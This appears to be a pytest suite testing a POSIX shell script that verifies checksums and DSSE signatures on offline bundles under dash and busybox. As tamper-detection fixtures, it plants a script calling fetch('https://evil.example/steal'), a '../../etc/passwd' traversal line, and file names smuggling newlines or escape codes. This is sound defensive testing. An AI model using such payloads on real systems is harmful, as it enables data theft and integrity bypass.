"""verify-offline.sh under real POSIX shells: dash (required in CI) and busybox sh.

Exit codes: 0 verified, 2 checksum failure, 3 signature failure, 4 usage or missing tool.
Tampering with manifest.json alone is a checksum failure (2: checksums.txt covers it and is
checked first); tampering with manifest.json *and* fixing checksums.txt is a signature
failure (3), as is any content file changed together with checksums.txt.
"""

from __future__ import annotations

import base64
import json
import shutil
import subprocess
from dataclasses import dataclass
from pathlib import Path

import pytest

from export_center.devportal import BuildOptions, build_bundle
from support.devportal import Key, extract, repack, run_script, unpack
from support.tools import missing, need_tool

# Every external tool verify-offline.sh calls, besides openssl.
_TOOLS = "awk cat cmp find grep head mkdir rm sed sort tr wc sha256sum".split()  # noqa: SIM905


def _dash() -> list[str]:
    path = shutil.which("dash")
    if path is None:
        missing("dash")
    assert path is not None
    return [path]


def _busybox() -> str:
    return need_tool("busybox")


@dataclass(frozen=True)
class Shell:
    cmd: list[str]
    path: str | None  # PATH for the script's tools; None = the test's PATH


def _tool_dir(tmp_path_factory: pytest.TempPathFactory, tools: dict[str, str]) -> str:
    bin_dir = tmp_path_factory.mktemp("bin")
    for name, target in tools.items():
        (bin_dir / name).symlink_to(target)
    return str(bin_dir)


@pytest.fixture(params=["dash", "dash-shasum", "busybox-sh", "busybox-userland"])
def shell(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Shell:
    """How to run the script: the shell, and the PATH its tools come from."""
    openssl = shutil.which("openssl")
    extra = {"openssl": openssl} if openssl else {}
    if request.param == "dash":
        return Shell(_dash(), None)
    if request.param == "dash-shasum":
        # no sha256sum on PATH (as on macOS): the script must fall back to shasum -a 256
        shasum = need_tool("shasum", "perl")
        tools = {t: shutil.which(t) or f"/usr/bin/{t}" for t in _TOOLS if t != "sha256sum"}
        return Shell(_dash(), _tool_dir(tmp_path_factory, {**tools, "shasum": shasum, **extra}))
    busybox = _busybox()
    if request.param == "busybox-sh":
        return Shell([busybox, "sh"], None)
    # busybox sh with busybox's own awk, sed, sort, sha256sum ... and only openssl besides
    return Shell([busybox, "sh"], _tool_dir(tmp_path_factory, {t: busybox for t in _TOOLS} | extra))


def _run(
    shell: Shell, bundle_dir: Path, *args: str, cwd: Path | None = None
) -> subprocess.CompletedProcess[str]:
    return run_script(shell.cmd, bundle_dir, *args, path=shell.path, cwd=cwd)


@pytest.fixture
def bundle_dir(demo_bundle: bytes, tmp_path: Path) -> Path:
    return extract(demo_bundle, tmp_path / "bundle")


def test_passes_with_the_right_key(
    shell: Shell, bundle_dir: Path, ed25519_key: Key, openssl: str
) -> None:
    result = _run(shell, bundle_dir, str(ed25519_key.public_pem))
    assert result.returncode == 0, result.stdout + result.stderr
    assert "OK    checksums: 11 files match checksums.txt" in result.stdout
    assert f"ed25519 key {ed25519_key.signer.keyid}" in result.stdout
    assert "OK    manifest: 7 content files match the signed manifest" in result.stdout
    assert "VERIFIED" in result.stdout
    assert result.stderr == ""


def test_without_a_key_says_the_signature_was_not_checked(shell: Shell, bundle_dir: Path) -> None:
    result = _run(shell, bundle_dir)
    assert result.returncode == 0, result.stdout + result.stderr
    assert "OK    checksums" in result.stdout
    assert "signature NOT checked" in result.stdout
    assert "VERIFIED" not in result.stdout


def test_one_changed_byte_is_a_checksum_failure(
    shell: Shell, bundle_dir: Path, ed25519_key: Key
) -> None:
    page = bundle_dir / "portal" / "index.html"
    data = bytearray(page.read_bytes())
    data[100] ^= 0x01
    page.write_bytes(bytes(data))
    for args in ((), (str(ed25519_key.public_pem),)):
        result = _run(shell, bundle_dir, *args)
        assert result.returncode == 2, result.stdout + result.stderr
        assert "portal/index.html" in result.stderr
        assert "FAIL  checksums.txt does not match the files" in result.stderr


def test_wrong_key_is_a_signature_failure(
    shell: Shell, bundle_dir: Path, other_key: Key, openssl: str
) -> None:
    result = _run(shell, bundle_dir, str(other_key.public_pem))
    assert result.returncode == 3, result.stdout + result.stderr
    assert (
        f"no signature in manifest.dsse.json verifies with ed25519 key {other_key.signer.keyid}"
        in (result.stderr)
    )


def test_tampered_manifest_is_a_checksum_failure(
    shell: Shell, bundle_dir: Path, ed25519_key: Key
) -> None:
    manifest = bundle_dir / "manifest.json"
    manifest.write_bytes(manifest.read_bytes().replace(b'"purpose":"tests"', b'"purpose":"evil!"'))
    result = _run(shell, bundle_dir, str(ed25519_key.public_pem))
    assert result.returncode == 2, result.stdout + result.stderr
    assert "manifest.json" in result.stderr


def test_tampered_manifest_with_fixed_checksums_is_a_signature_failure(
    shell: Shell, demo_bundle: bytes, tmp_path: Path, ed25519_key: Key, openssl: str
) -> None:
    files = unpack(demo_bundle)
    files["manifest.json"] = files["manifest.json"].replace(b"tests", b"evil!")
    bundle_dir = extract(repack(files, fix_checksums=True), tmp_path / "b")
    result = _run(shell, bundle_dir, str(ed25519_key.public_pem))
    assert result.returncode == 3, result.stdout + result.stderr
    assert "manifest.json is not the payload signed in manifest.dsse.json" in result.stderr


def test_changed_content_with_fixed_checksums_is_a_signature_failure(
    shell: Shell, demo_bundle: bytes, tmp_path: Path, ed25519_key: Key, openssl: str
) -> None:
    files = unpack(demo_bundle)
    files["portal/assets/portal.js"] = b"fetch('https://evil.example/steal')\n"
    files["portal/extra.html"] = b"<p>not signed</p>\n"
    bundle_dir = extract(repack(files, fix_checksums=True), tmp_path / "b")
    assert _run(shell, bundle_dir).returncode == 0  # intact, as far as checksums know
    result = _run(shell, bundle_dir, str(ed25519_key.public_pem))
    assert result.returncode == 3, result.stdout + result.stderr
    assert "not as signed in manifest.json: portal/" in result.stderr


def test_wrong_payload_type_is_a_signature_failure(
    shell: Shell, demo_bundle: bytes, tmp_path: Path, ed25519_key: Key, openssl: str
) -> None:
    files = unpack(demo_bundle)
    envelope = json.loads(files["manifest.dsse.json"])
    envelope["payloadType"] = "application/vnd.in-toto+json"
    files["manifest.dsse.json"] = json.dumps(envelope).encode()
    bundle_dir = extract(repack(files, fix_checksums=True), tmp_path / "b")
    result = _run(shell, bundle_dir, str(ed25519_key.public_pem))
    assert result.returncode == 3
    assert "payloadType is 'application/vnd.in-toto+json'" in result.stderr


def test_pretty_printed_envelope_and_unpadded_base64_still_verify(
    shell: Shell, demo_bundle: bytes, tmp_path: Path, ed25519_key: Key, openssl: str
) -> None:
    # DSSE signs PAE(type, payload), not the envelope JSON; DSSE allows URL-safe/unpadded base64
    files = unpack(demo_bundle)
    envelope = json.loads(files["manifest.dsse.json"])
    raw_sig = base64.b64decode(envelope["signatures"][0]["sig"])
    envelope["signatures"][0]["sig"] = base64.urlsafe_b64encode(raw_sig).decode().rstrip("=")
    files["manifest.dsse.json"] = json.dumps(envelope, indent=2).encode()
    bundle_dir = extract(repack(files, fix_checksums=True), tmp_path / "b")
    result = _run(shell, bundle_dir, str(ed25519_key.public_pem))
    assert result.returncode == 0, result.stdout + result.stderr


def test_a_file_not_in_checksums_is_a_checksum_failure(shell: Shell, bundle_dir: Path) -> None:
    (bundle_dir / "portal" / "injected.js").write_text("alert(1)\n")
    result = _run(shell, bundle_dir)
    assert result.returncode == 2
    assert "unexpected file not listed in checksums.txt: portal/injected.js" in result.stderr


def test_a_symlink_is_a_checksum_failure(shell: Shell, bundle_dir: Path) -> None:
    target = bundle_dir / "portal" / "index.html"
    moved = bundle_dir.parent / "index.html"
    target.rename(moved)
    target.symlink_to(moved)
    result = _run(shell, bundle_dir)
    assert result.returncode == 2
    assert "not a regular file: portal/index.html" in result.stderr


def test_malformed_checksums_line_is_refused(shell: Shell, bundle_dir: Path) -> None:
    checksums = bundle_dir / "checksums.txt"
    checksums.write_text(checksums.read_text() + f"{'0' * 64}  ../../etc/passwd\n")
    result = _run(shell, bundle_dir)
    assert result.returncode == 2
    assert "checksums.txt line 12 is malformed" in result.stderr


def test_ecdsa_key(
    shell: Shell, demo_input: Path, tmp_path: Path, ecdsa_key: Key, openssl: str
) -> None:
    result = build_bundle(demo_input, tmp_path / "out", ecdsa_key.signer, BuildOptions())
    bundle_dir = extract(result.path.read_bytes(), tmp_path / "b")
    ok = _run(shell, bundle_dir, str(ecdsa_key.public_pem))
    assert ok.returncode == 0, ok.stdout + ok.stderr
    assert f"ecdsa-p256 key {ecdsa_key.signer.keyid}" in ok.stdout


def test_run_from_elsewhere_with_a_key_inside_the_bundle_dir(
    shell: Shell, bundle_dir: Path, ed25519_key: Key, openssl: str
) -> None:
    shutil.copy(ed25519_key.public_pem, bundle_dir / "publisher.pem")
    result = _run(shell, bundle_dir, "./publisher.pem", cwd=None)
    assert result.returncode == 0, result.stdout + result.stderr
    elsewhere = bundle_dir.parent
    result = _run(shell, bundle_dir, str(bundle_dir / "publisher.pem"), cwd=elsewhere)
    assert result.returncode == 0, result.stdout + result.stderr


def test_usage_errors(shell: Shell, bundle_dir: Path, tmp_path: Path) -> None:
    assert _run(shell, bundle_dir, "a.pem", "b.pem").returncode == 4
    assert _run(shell, bundle_dir, "--bogus").returncode == 4
    help_result = _run(shell, bundle_dir, "--help")
    assert help_result.returncode == 0 and "usage:" in help_result.stdout
    missing_key = _run(shell, bundle_dir, str(tmp_path / "absent.pem"))
    assert missing_key.returncode == 4
    assert "cannot read the public key file" in missing_key.stderr
    not_a_key = tmp_path / "not-a-key.pem"
    not_a_key.write_text("hello\n")
    assert _run(shell, bundle_dir, str(not_a_key)).returncode == 4


def test_leaves_no_temporary_files(shell: Shell, bundle_dir: Path, ed25519_key: Key) -> None:
    before = set(bundle_dir.parent.iterdir())
    _run(shell, bundle_dir, str(ed25519_key.public_pem))
    assert set(bundle_dir.parent.iterdir()) == before


def test_script_passes_checkbashisms(demo_bundle: bytes, tmp_path: Path) -> None:
    tool = need_tool("checkbashisms", "devscripts")
    script = tmp_path / "verify-offline.sh"
    script.write_bytes(unpack(demo_bundle)["verify-offline.sh"])
    result = subprocess.run(
        [tool, "--posix", "--extra", str(script)], capture_output=True, text=True, check=False
    )
    assert result.returncode == 0, result.stdout + result.stderr


def test_unusual_but_allowed_file_names(
    shell: Shell, demo_input: Path, tmp_path: Path, ed25519_key: Key, openssl: str
) -> None:
    odd = demo_input / "portal" / "docs" / "Guide d'été (v2) [draft].html"
    odd.parent.mkdir()
    odd.write_text("<p>été</p>\n")
    (demo_input / "sdks" / "go-1.2").mkdir()
    (demo_input / "sdks" / "go-1.2" / "a b.txt").write_text("x\n")
    result = build_bundle(demo_input, tmp_path / "out", ed25519_key.signer)
    bundle_dir = extract(result.path.read_bytes(), tmp_path / "b")
    ok = _run(shell, bundle_dir, str(ed25519_key.public_pem))
    assert ok.returncode == 0, ok.stdout + ok.stderr
    (bundle_dir / "portal" / "docs" / odd.name).write_text("<p>changed</p>\n")
    assert _run(shell, bundle_dir, str(ed25519_key.public_pem)).returncode == 2


def test_a_newline_in_a_file_name_is_refused(
    shell: Shell, bundle_dir: Path, ed25519_key: Key, openssl: str
) -> None:
    """``portal/index.html<LF>manifest.json`` listed as two known names passed as VERIFIED."""
    page = (bundle_dir / "portal" / "index.html").read_bytes()
    (bundle_dir / "portal" / "index.html\nmanifest.json").write_bytes(page + b"<script>x</script>")
    for args in ((), (str(ed25519_key.public_pem),)):
        result = _run(shell, bundle_dir, *args)
        assert result.returncode == 2, result.stdout + result.stderr
        assert (
            "a file name holds a control character or a backslash: portal/index.html?manifest.json"
            in result.stderr
        )
        assert "VERIFIED" not in result.stdout


@pytest.mark.parametrize("name", ["portal/tab\there.html", "portal/esc\x1b[31m.html", "a\\b"])
def test_control_characters_and_backslashes_in_names_are_refused(
    shell: Shell, bundle_dir: Path, name: str
) -> None:
    (bundle_dir / name).write_text("x\n")
    result = _run(shell, bundle_dir)
    assert result.returncode == 2, result.stdout + result.stderr
    assert "a file name holds a control character or a backslash" in result.stderr
    assert "\x1b" not in result.stderr  # shown with '?', never raw


def test_a_root_file_name_as_a_suffix_is_content_and_must_be_signed(
    shell: Shell, demo_bundle: bytes, tmp_path: Path, ed25519_key: Key, openssl: str
) -> None:
    """A checksums line for ``portal/x  manifest.json`` was left out of the signed-manifest
    comparison by a suffix match: the file passed as VERIFIED."""
    files = unpack(demo_bundle)
    for suffix in ("manifest.json", "verify-offline.sh", "checksums.txt"):
        files[f"portal/x  {suffix}"] = b"<p>not signed</p>\n"
    bundle_dir = extract(repack(files, fix_checksums=True), tmp_path / "b")
    result = _run(shell, bundle_dir, str(ed25519_key.public_pem))
    assert result.returncode == 3, result.stdout + result.stderr
    assert "not as signed in manifest.json: portal/x  checksums.txt" in result.stderr
    assert "VERIFIED" not in result.stdout


def test_a_carriage_return_in_checksums_is_refused(shell: Shell, bundle_dir: Path) -> None:
    checksums = bundle_dir / "checksums.txt"
    checksums.write_bytes(checksums.read_bytes().replace(b"\n", b"\r\n", 1))
    result = _run(shell, bundle_dir)
    assert result.returncode == 2
    assert "checksums.txt line 1 is malformed" in result.stderr


def test_a_reordered_checksums_is_refused(shell: Shell, bundle_dir: Path) -> None:
    checksums = bundle_dir / "checksums.txt"
    lines = checksums.read_bytes().splitlines(keepends=True)
    checksums.write_bytes(b"".join([lines[1], lines[0], *lines[2:]]))
    result = _run(shell, bundle_dir)
    assert result.returncode == 2
    assert "checksums.txt line 2 is malformed or out of order" in result.stderr
